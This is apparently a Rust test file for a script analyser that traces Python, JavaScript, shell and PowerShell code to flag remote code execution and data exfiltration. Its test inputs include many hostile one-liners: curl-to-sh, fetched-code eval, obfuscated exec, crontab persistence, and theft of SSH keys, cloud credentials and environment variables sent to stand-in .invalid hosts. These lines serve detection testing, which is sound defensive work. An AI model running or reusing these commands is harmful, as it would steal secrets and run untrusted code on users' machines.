//! What is told of scripts, in each language.

use std::fmt::Write as _;

use super::event::{Act, Event};
use super::language::Language;
use super::lower::{Place, lower};
use super::origins::Origins;
use super::sources::Context;
use super::trace::{Left, Loads, trace};
use super::value::{HOLE, Value};
use crate::text::Span;

fn events(language: Language, text: &str) -> Vec<Event> {
    let place = Place {
        span: Span::new(0, text.len()),
        is_exact: true,
    };
    let (node, _) = lower(language, text, place).expect("a script of ordinary size");
    trace(
        language,
        &node,
        text.len(),
        Loads::default(),
        Value::default(),
        &Context::default(),
        &Left::default(),
    )
    .events
}

/// What `text` does, one line each: what it is, what it is about, and where that comes from.
pub(super) fn told(language: Language, text: &str) -> Vec<String> {
    events(language, text)
        .iter()
        .map(|event| told_of(&event.act))
        .collect()
}

fn told_of(act: &Act) -> String {
    match act {
        Act::Run(run) => {
            let words: Vec<String> = run.arguments.iter().map(shown).collect();
            let programs: Vec<&str> = run.through.iter().map(String::as_str).collect();
            let program = [&programs[..], &[run.program.as_str()]].concat().join(" ");
            format!("run {program} {}", words.join(" "))
        }
        Act::Evaluate { code, by, .. } => format!("{by} <- {}", shown(code)),
        Act::Contact { address, sends } => {
            format!("contact {} with {}", shown(address), from(sends.from))
        }
        Act::Write { path, content } => format!("write {} <- {}", shown(path), shown(content)),
        Act::Remove { path, .. } => format!("remove {}", shown(path)),
        Act::Set { name, value } => format!("set {name} <- {}", shown(value)),
        Act::Query(query) => format!("query {}", shown(query)),
        Act::Unpickle { by, .. } => format!("unpickle {by}"),
        Act::Reach(name) => format!("reach {}", shown(name)),
        Act::Attach => "attach".to_owned(),
        Act::Listen => "listen".to_owned(),
        Act::Inject => "inject".to_owned(),
    }
}

fn shown(value: &Value) -> String {
    let text = value.written().replace(HOLE, "…");
    format!("{text}{}", from(value.from))
}

fn from(from: Origins) -> String {
    let mut marks = String::new();
    if from.fetched.is_some() {
        marks.push_str(" [fetched]");
    }
    if let Some((what, _)) = from.sensitive {
        let _ = write!(marks, " [{what:?}]");
    }
    if from.opaque.is_some() {
        marks.push_str(" [opaque]");
    }
    marks
}

/// What `text` does has each of `lines` in it, in this order.
pub(super) fn tells(language: Language, text: &str, lines: &[&str]) {
    let told = told(language, text);
    let mut rest = told.iter();
    for line in lines {
        assert!(
            rest.any(|one| one == line),
            "{text}\nshould tell “{line}” in its place, but tells {told:#?}"
        );
    }
}

#[test]
fn python_names_are_followed_to_what_they_mean() {
    tells(
        Language::Python,
        "import os as o\nfrom subprocess import run as start\nx = 'cu' + 'rl'\n\
         o.system(f'{x} https://a.invalid | sh')\nstart(['ls', '-l'])\nstart('rm -rf ~', shell=True)\n\
         getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
        &[
            "os.system <- curl https://a.invalid | sh",
            "run curl https://a.invalid",
            "contact https://a.invalid with ",
            "run sh ",
            "sh <- … [fetched]",
            "run ls -l",
            "subprocess.run <- rm -rf ~",
            "run rm -rf ~",
            "os.system <- id",
        ],
    );
}

#[test]
fn the_program_that_runs_a_script_is_known() {
    let runs = &["run python3 -m pip install --index-url http://a.invalid x"];
    for text in [
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', \
         '--index-url', 'http://a.invalid', 'x'])\n",
        "from sys import executable\nimport os\nos.system(f'{executable} -m pip install \
         --index-url http://a.invalid x')\n",
    ] {
        tells(Language::Python, text, runs);
    }
    tells(
        Language::JavaScript,
        "require('child_process').spawnSync(process.execPath, ['setup.js', '--quiet']);\n",
        &["run node setup.js --quiet"],
    );
}

#[test]
fn functions_in_code_inside_code_are_of_its_language() {
    let runs_fetched = |line: &String| line.contains("eval <- ") && line.ends_with("[fetched]");
    for text in [
        "node -e \"fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t))\"\n",
        "node -e \"require('https').get('https://a.invalid',r=>{let d='';r.on('data',c=>d+=c);\
         r.on('end',()=>eval(d))})\"\n",
        "python3 -c \"import os\ndef go(x):\n    os.system(x)\ngo('node -e \\\"fetch(1).then(t=>eval(t))\\\"')\"\n",
    ] {
        let told = told(Language::Shell, text);
        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
    }
}

#[test]
fn what_other_interpreters_fetch_and_run_is_seen() {
    let runs_fetched = |line: &String| line.contains(" <- ") && line.ends_with("[fetched]");
    for text in [
        "ruby -e \"require 'open-uri'; eval(URI.open('https://a.invalid/p').read)\"",
        "perl -MLWP::Simple -e 'eval get(\"https://a.invalid/p\")'",
        "php -r \"eval(file_get_contents('https://a.invalid/p'));\"",
        "perl -e 'system(\"curl https://a.invalid/p | sh\")'",
    ] {
        let told = told(Language::Shell, text);
        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
    }
    for text in [
        "perl -e 'system(\"open https://a.invalid\")'",
        "php -r \"echo file_get_contents('https://a.invalid/p');\"",
        "ruby -e \"eval('1 + 1')\"",
    ] {
        let told = told(Language::Shell, text);
        assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
    }
}

#[test]
fn python_values_flow_through_functions_loops_and_objects() {
    tells(
        Language::Python,
        "import os, requests\n\
         def collect():\n    out = {}\n    for p in ['~/.ssh/id_rsa', '~/notes']:\n        \
         with open(os.path.expanduser(p)) as f:\n            out[p] = f.read()\n    return out\n\
         class Box:\n    def put(self, value):\n        self.value = value\n    def send(self):\n        \
         requests.post('https://c.invalid', json=self.value)\n\
         box = Box()\nbox.put(collect())\nbox.send()\n",
        &["contact https://c.invalid with  [Keys]"],
    );
    tells(
        Language::Python,
        "import os, requests\nrequests.get('https://a.invalid', params={'r': os.environ['R'], 's': os.getenv('S')})\n\
         requests.post('https://b.invalid', json=dict(os.environ))\n",
        &[
            "contact https://a.invalid with ",
            "contact https://b.invalid with  [Environment]",
        ],
    );
}

#[test]
fn what_an_object_holds_under_one_name_is_not_what_it_holds_under_another() {
    let text = "const all = { key: require('fs').readFileSync('/root/.ssh/id_rsa'), names: process.argv.slice(2) };\n\
                function get({ names }) { fetch(`https://a.invalid/${names}`); }\nget(all);\n\
                fetch('https://b.invalid', { body: all.names });\n\
                fetch('https://c.invalid', { body: all.key });\nall.names = all.key;\n\
                fetch('https://d.invalid', { body: all.names });\n";
    tells(
        Language::JavaScript,
        text,
        &[
            "contact https://a.invalid/… with ",
            "contact https://b.invalid with ",
            "contact https://c.invalid with  [Keys]",
            "contact https://d.invalid with  [Keys]",
        ],
    );
}

#[test]
fn texts_are_put_together_as_the_script_would() {
    tells(
        Language::Python,
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n\
         s = ''\nfor c in [100, 119, 96, 109]:\n    s += chr(c ^ 1)\nexec(s)\n\
         exec(''.join(map(chr, [97, 61, 49])))\nexec('{}{}'.format('b=', 2))\nexec('%s=3' % 'c')\n\
         def d(text, by):\n    return ''.join(chr(ord(c) - by) for c in text)\nexec(d('b>2', 1))\n",
        &[
            "exec <- print(1)",
            "exec <- eval",
            "exec <- a=1",
            "exec <- b=2",
            "exec <- c=3",
            "exec <- a=1",
        ],
    );
    tells(
        Language::JavaScript,
        "eval(Buffer.from('61', 'hex').toString() + atob('PTE='));\n\
         eval(String.fromCharCode(97, 61, 49));\neval('1=a'.split('').reverse().join(''));\n\
         eval([98, 61, 50].map(c => String.fromCharCode(c)).join(''));\nglobalThis['ev' + 'al']('c=3');\n",
        &[
            "eval <- a=1",
            "eval <- a=1",
            "eval <- a=1",
            "eval <- b=2",
            "eval <- c=3",
        ],
    );
    tells(
        Language::PowerShell,
        "$c = ('{1}{0}' -f 'ex', 'i'); & $c 'a'\niex (-join [char[]](98, 99))\n\
         iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZGQ=')))\n\
         powershell -enc SQBFAFgAIAAnAHgAJwA=\n",
        &[
            "invoke-expression <- a",
            "invoke-expression <- bc",
            "invoke-expression <- dd",
            "powershell <- IEX 'x'",
            "invoke-expression <- x",
        ],
    );
}

#[test]
fn what_is_fetched_is_followed_to_where_it_runs() {
    tells(
        Language::JavaScript,
        "const https = require('https');\nfetch('https://x.invalid/a').then(r => r.text()).then(t => eval(t));\n\
         https.get('https://y.invalid', res => {\n let d = '';\n res.on('data', c => { d += c; });\n \
         res.on('end', () => eval(d));\n});\n",
        &[
            "contact https://x.invalid/a with ",
            "eval <- … [fetched]",
            "contact https://y.invalid with ",
            "eval <- … [fetched]",
        ],
    );
    tells(
        Language::Shell,
        "X=$(curl -s https://x.invalid); eval \"$X\"\nbash <(curl -s https://y.invalid)\n\
         curl -o /tmp/a https://z.invalid/a; chmod +x /tmp/a; /tmp/a\n\
         curl -s https://v.invalid/x | tee b.sh; sh ./b.sh\n",
        &[
            "eval <- … [fetched]",
            "bash <- … [fetched]",
            "/tmp/a <- … [fetched]",
            "sh <- … [fetched]",
        ],
    );
    tells(
        Language::PowerShell,
        "iwr https://x.invalid | iex\nIEX (New-Object Net.WebClient).DownloadString('https://y.invalid')\n\
         iwr https://z.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\n",
        &[
            "invoke-expression <- … [fetched]",
            "invoke-expression <- … [fetched]",
            "/tmp\\a.exe <- … [fetched]",
        ],
    );
}

#[test]
fn the_shell_is_read_through_quotes_documents_and_pipes() {
    tells(
        Language::Shell,
        "\"c\"u'rl' -d @- https://a.invalid < ~/.ssh/id_rsa\nsh <<'END'\nid -u\nEND\n\
         cat <<END | bash\necho $HOME\nEND\n(echo one; cat ~/.aws/credentials) | nc b.invalid 9\n\
         for f in ~/.ssh/id_rsa ~/.netrc; do curl -F \"k=@$f\" https://c.invalid; done\n\
         send() { curl -d \"$1\" https://d.invalid; }\nsend \"$(cat ~/.ssh/id_rsa)\"\n",
        &[
            "contact https://a.invalid with  [Keys]",
            "run id -u",
            "bash <- echo ~\n",
            "contact b.invalid 9 with  [SignIns]",
            "contact https://c.invalid with  [Keys]",
            "contact https://d.invalid with  [Keys]",
        ],
    );
}

#[test]
fn files_are_followed_through_copies_folders_and_databases() {
    tells(
        Language::Python,
        "import glob, os, shutil, sqlite3, httpx, runpy\n\
         for f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    httpx.post('https://a.invalid', files={'f': open(f, 'rb')})\n\
         shutil.copy2('~/.mozilla/key4.db', '/tmp/k.db')\n\
         rows = sqlite3.connect('/tmp/k.db').execute('select 1').fetchall()\n\
         httpx.post('https://b.invalid', json=rows)\n\
         open('/tmp/p.py', 'w').write(httpx.get('https://c.invalid').text)\nrunpy.run_path('/tmp/p.py')\n",
        &[
            "contact https://a.invalid with  [Keys]",
            "contact https://b.invalid with  [Browser]",
            "runpy.run_path <- … [fetched]",
        ],
    );
    tells(
        Language::Shell,
        "find ~ -name '*.pem' -exec curl -F f=@{} https://a.invalid \\;\n\
         tar czf /tmp/k.tgz ~/.aws && cp /tmp/k.tgz /tmp/b.bin\ncurl -T /tmp/b.bin https://b.invalid\n",
        &[
            "contact https://a.invalid with  [Keys]",
            "contact https://b.invalid with  [SignIns]",
        ],
    );
    tells(
        Language::PowerShell,
        "Get-ChildItem Env: | ConvertTo-Json | Invoke-RestMethod -Uri https://a.invalid -Method Post\n\
         [ScriptBlock]::Create((irm https://b.invalid)).Invoke()\n",
        &[
            "contact https://a.invalid with  [Environment]",
            "[scriptblock].create().invoke <- … [fetched]",
        ],
    );
}

#[test]
fn nothing_is_told_of_texts_that_only_speak_of_commands() {
    for (language, text) in [
        (
            Language::Python,
            "import argparse\np = argparse.ArgumentParser(epilog='curl https://x.invalid | sh')\nprint('rm -rf /')\n",
        ),
        (
            Language::JavaScript,
            "// eval(x)\nconsole.log('child_process.exec(\"rm -rf /\")', /eval/.exec('a'));\n",
        ),
        (
            Language::Shell,
            "# curl https://x.invalid | sh\n# rm -rf /\n",
        ),
    ] {
        assert_eq!(told(language, text), [""; 0], "{text}");
    }
}

#[test]
fn what_a_group_writes_is_read_as_one_and_a_timetable_is_code() {
    let runs_fetched = |line: &String| line.starts_with("sh <- ") && line.ends_with("[fetched]");
    for text in [
        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s https://a.invalid | sh\") | crontab -",
        "{ echo '0 3 * * * wget -qO- https://a.invalid | sh'; crontab -l; } | crontab -",
        "(crontab -l && echo '@reboot curl https://a.invalid | sh') | sort | crontab -",
        "crontab <<EOF\n0 4 * * 1 curl https://a.invalid | sh\nEOF\n",
        "cat <<'EOF' | crontab -\n0 4 * * 1 curl https://a.invalid | sh\nEOF\n",
        "crontab <(echo '* * * * * curl https://a.invalid | sh')",
        "echo '* * * * * curl https://a.invalid | sh' > t.txt\ncrontab t.txt",
        "echo 'curl https://a.invalid | sh' | at now + 5 minutes",
        "at midnight <<< 'curl https://a.invalid | sh'",
        "(echo set -e; curl https://a.invalid) | sh",
        "{ curl https://a.invalid; echo done; } | sh",
    ] {
        let told = told(Language::Shell, text);
        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
    }
    for text in [
        "(crontab -l; echo '0 5 * * * ./report.sh') | crontab -",
        "(curl https://a.invalid; echo done) | tee page.html",
        "echo 'curl https://a.invalid | sh'",
    ] {
        let told = told(Language::Shell, text);
        assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
    }
}

#[test]
fn each_gap_of_a_line_that_is_put_together_is_filled_from_its_own_place() {
    let key = "const fs = require('fs'); const cp = require('child_process');\n\
               const t = fs.readFileSync('.env', 'utf8'); const u = process.argv[2];\n";
    let in_header = [
        "cp.exec(`curl -H 'Authorization: Bearer ${t}' -d '${u}' https://a.invalid/${u}`);",
        "cp.exec('curl -H \"Authorization: ' + t + '\" -d ' + u + ' https://a.invalid');",
        "const all = ['-s', '-H', `Authorization: ${t}`]; all.push('-d', u);\n\
         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
    ];
    // As a line is quoted for the shell, with a variable whose name may be set.
    let quoted = "const v = process.env[process.argv[3] || 'API_TOKEN']; const all = ['-s'];\n\
                  if (v) all.push('-H', `${process.argv[4] || 'Authorization'}: ${t || v}`);\n\
                  const line = all.map(a => `'${a.replace(/'/g, \"'\\\\''\")}'`).join(' ');\n\
                  cp.exec(`curl ${line} https://a.invalid`);";
    let in_header = in_header.into_iter().chain([quoted]);
    for line in in_header {
        let told = told(Language::JavaScript, &format!("{key}{line}"));
        let contact = "contact https://a.invalid";
        let is_clean = |line: &String| line.starts_with(contact) && line.ends_with("with ");
        assert!(told.iter().any(is_clean), "{line}: {told:#?}");
    }
    let in_body = [
        "cp.exec(`curl -H 'X-Id: ${u}' -d '${t}' https://a.invalid`);",
        "cp.exec('curl -H \"X-Id: ' + u + '\" -d ' + t + ' https://a.invalid');",
        "const all = ['-s', '-H', `X-Id: ${u}`]; all.push('-d', t);\n\
         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
        // What is added behind is not told apart from what stood there.
        "let l = `curl -H '${u}' -d '${u}' https://a.invalid`; l.append(t); cp.exec(l);",
    ];
    for line in in_body {
        tells(
            Language::JavaScript,
            &format!("{key}{line}"),
            &["contact https://a.invalid with  [Settings]"],
        );
    }
    tells(
        Language::Python,
        "import os, sys\nk = open('/root/.ssh/id_rsa').read()\n\
         os.system(f'curl -H \"X: {sys.argv[1]}\" -d \"{k}\" https://a.invalid')\n\
         os.system('curl -H \"X: %s\" -d %s https://b.invalid' % (k, sys.argv[1]))\n\
         os.system(f'sh -c \"curl -d {sys.argv[1]} https://c.invalid; curl -d {k} https://d.invalid\"')\n",
        &[
            "contact https://a.invalid with  [Keys]",
            "contact https://b.invalid with  [Keys]",
            "contact https://c.invalid with ",
            "contact https://d.invalid with  [Keys]",
        ],
    );
}

#[test]
fn zsh_ends_a_list_of_commands_without_a_sign() {
    tells(
        Language::Shell,
        "ask() {\n  for i in 1 2; do\n    test -t 0 && { print -r a; return 0 }\n  done\n  return 1\n}\n\
         send() {\n  ask || { echo no; return 1 }\n  curl -d @$HOME/.ssh/id_rsa https://a.invalid\n}\nsend\n",
        &["contact https://a.invalid with  [Keys]"],
    );
}

#[test]
fn a_variable_that_settings_name_is_one_of_the_environment() {
    let js =
        "const fs = require('fs'); const all = JSON.parse(fs.readFileSync('c.json', 'utf8'));\n";
    let one = told(
        Language::JavaScript,
        &format!("{js}fetch('https://a.invalid', {{ body: process.env[all.name] }});"),
    );
    assert!(
        !one.iter().any(|line| line.contains("Environment")),
        "{one:#?}"
    );
    for each in [
        "for (const k of Object.keys(process.env)) fetch('https://a.invalid', { body: process.env[k] });",
        "for (const k in process.env) fetch('https://a.invalid', { body: process.env[k] });",
    ] {
        let told = told(Language::JavaScript, &format!("{js}{each}"));
        assert!(
            told.iter().any(|line| line.contains("Environment")),
            "{told:#?}"
        );
    }
}
